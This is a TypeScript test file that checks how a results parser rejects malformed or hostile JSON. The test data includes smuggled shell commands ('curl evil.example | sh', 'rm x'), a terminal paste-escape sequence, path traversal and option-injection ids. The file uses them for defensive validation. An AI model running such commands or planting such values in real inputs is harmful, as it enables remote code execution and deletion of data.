import { describe, expect, test } from "vitest";
import { fetchClaims, NoResults, readClaims } from "./compute.ts";
import { published, publishedText } from "./results.suite.ts";

function readingError(text: string): NoResults {
  try {
    readClaims(text);
  } catch (error) {
    if (error instanceof NoResults) return error;
    throw error;
  }
  throw new Error("it was read");
}

test("the published results can be read", () => {
  expect(published).toEqual(JSON.parse(publishedText));
});

describe("what cannot be shown is told, with what to do", () => {
  const { experiments, ...claimsAlone } = published;
  const cases: [name: string, text: string, message: RegExp][] = [
    ["a page instead", "<!doctype html>", /not JSON/],
    ["half a file", publishedText.slice(0, 5000), /not JSON/],
    ["null", "null", /does not hold claims/],
    ["a list", "[]", /does not hold claims/],
    ["other JSON", '{"version":1}', /does not hold claims/],
    ["claims without experiments", JSON.stringify(claimsAlone), /does not hold experiments/],
    [
      "an unknown verdict",
      JSON.stringify({ ...published, claims: [{ ...published.claims[0], verdict: "perhaps" }] }),
      /“shift” is not as it should be/,
    ],
    ["a claim that is none", JSON.stringify({ ...published, claims: [7] }), /an entry without an id/],
    [
      "an experiment without figures",
      JSON.stringify({ ...published, experiments: [{ ...experiments[0], figures: undefined }] }),
      /“theorems” is not as it should be/,
    ],
    [
      "a test without an outcome",
      JSON.stringify({ ...published, claims: [{ ...published.claims[0], tests: [{ kind: "exact", label: "" }] }] }),
      /“shift”/,
    ],
  ];
  const [claim] = published.claims;
  const [experiment] = experiments;
  const [figure] = experiment.figures;
  const withTest = (changed: object) => ({ claims: [{ ...claim, tests: [{ ...claim.tests[0], ...changed }] }] });
  const withExperiment = (changed: object) => ({ experiments: [{ ...experiment, ...changed }] });
  const family = (changed: object) => ({
    families: { ...published.families, paper: { ...published.families.paper, ...changed } },
  });
  const settings = (changed: object) => ({ settings: { ...published.settings, ...changed } });
  const foreign: [name: string, changed: object, message: RegExp][] = [
    ["runs that are a command", settings({ runs: "1; curl evil.example | sh #" }), /its settings/],
    ["runs that are no whole number", settings({ runs: 1.5 }), /its settings/],
    ["a cap that is a command", settings({ maxRuns: "1; curl evil.example | sh #" }), /its settings/],
    ["a seed that is a list", settings({ seed: ["1"] }), /its settings/],
    ["an empty seed", settings({ seed: "" }), /its settings/],
    ["a seed with an escape that ends a paste", settings({ seed: "\u001b[201~\nrm x\n" }), /its settings/],
    ["a critical value that is a text", family({ criticalZ: "3" }), /its settings/],
    ["tests that are no number", family({ tests: null }), /its settings/],
    ["a family that is missing", { families: { paper: published.families.paper } }, /its settings/],
    ["an experiment that is an option", withExperiment({ id: "--all", conditions: [] }), /“--all”/],
    ["an experiment that is a command", withExperiment({ id: "a;b", conditions: [] }), /“a;b”/],
    [
      "a condition of another kind",
      withExperiment({ conditions: [{ id: "--out=/", config: {}, runs: 1 }] }),
      /“theorems”/,
    ],
    [
      "a condition with runs that are a command",
      withExperiment({ conditions: [{ id: "theorems/a", config: {}, runs: "1; rm x" }] }),
      /“theorems”/,
    ],
    ["a condition without runs", withExperiment({ conditions: [{ id: "theorems/a", config: {} }] }), /“theorems”/],
    [
      "a condition of two lines",
      withExperiment({ conditions: [{ id: "theorems/a\nb", config: {}, runs: 1 }] }),
      /“theorems”/,
    ],
    ["looks that are missing", { looks: undefined }, /its settings/],
    ["comparisons that are missing", family({ comparisons: undefined }), /its settings/],
    ["a claim that does not say whose it is", { claims: [{ ...claim, paper: undefined }] }, /“shift”/],
    ["an interval that is missing", withTest({ interval: undefined }), /“shift”/],
    ["a figure elsewhere", withExperiment({ figures: [{ ...figure, id: "../../index" }] }), /“theorems”/],
    ["a hidden figure", withExperiment({ figures: [{ ...figure, id: ".own" }] }), /“theorems”/],
    ["a claim with a place for an id", { claims: [{ ...claim, id: "a/b" }] }, /“a\/b”/],
    ["an effect that is a text", withTest({ effect: "1" }), /“shift”/],
    ["a test of no known kind", withTest({ kind: "constructor" }), /“shift”/],
    ["a margin that is missing", withTest({ kind: "equivalent", sem: 1, runs: 1 }), /“shift”/],
    ["a claim twice", { claims: [claim, claim] }, /“shift” is in it twice/],
    ["a figure twice", withExperiment({ figures: [figure, figure] }), /“theorems-volatility” is in it twice/],
  ];
  const all = [
    ...cases,
    ...foreign.map(
      ([name, changed, message]) => [name, JSON.stringify({ ...published, ...changed }), message] as const,
    ),
  ];
  test.each(all)("%s", (_, text, message) => {
    const error = readingError(text);
    expect(error.message).toMatch(message);
    expect(error.advice).toContain("npx cause reproduce");
  });

  test("none there, and nobody there", async () => {
    const missing = fetchClaims(async () => new Response("not found", { status: 404 }));
    await expect(missing).rejects.toMatchObject({
      message: expect.stringContaining("404"),
      advice: expect.stringMatching(/npx cause lab --results/),
    });
    const silent = fetchClaims(() => Promise.reject(new TypeError("Failed to fetch")));
    await expect(silent).rejects.toThrow("cannot be reached");
  });
});
